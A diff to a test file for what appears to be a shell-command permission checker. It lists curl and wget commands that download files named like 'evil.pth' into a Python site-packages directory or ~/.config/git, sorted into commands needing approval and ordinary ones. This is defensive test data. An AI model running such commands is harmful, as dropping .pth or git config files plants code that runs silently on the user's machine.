@@ -71,6 +71,7 @@ ASKING = [
     f"cd {SITE} && curl -O 'https://example.com/evil.[o-q]th'",
     f"wget -e dir_prefix={SITE} https://example.com/evil.pth",  # a wgetrc command
     f"wget -e recursive=on -P {SITE} https://example.com/",
+    f"wget -P {SITE} 'http://[bad/evil.pth'",  # a URL Python cannot split (it raised)
     f"cd {SITE} && wget https://example.com/evil.pth",
     f"cd {SITE} && curl -O https://example.com/evil.pth",
     "cd ~/.config/git && wget https://example.com/config",
@@ -119,6 +120,7 @@ ORDINARY = [
     "wget -q -O - https://example.com/x",
     "wget -r -np https://example.com/docs/",
     "wget -e robots=off -r -np https://example.com/docs/",
+    "wget 'http://[bad/x.tgz'",
     "curl -O 'https://example.com/logs/{a,b}.txt'",
     f"curl -g -O --output-dir {SITE} 'https://example.com/x[1].whl'",
     "curl -O https://example.com/file.tar.gz",
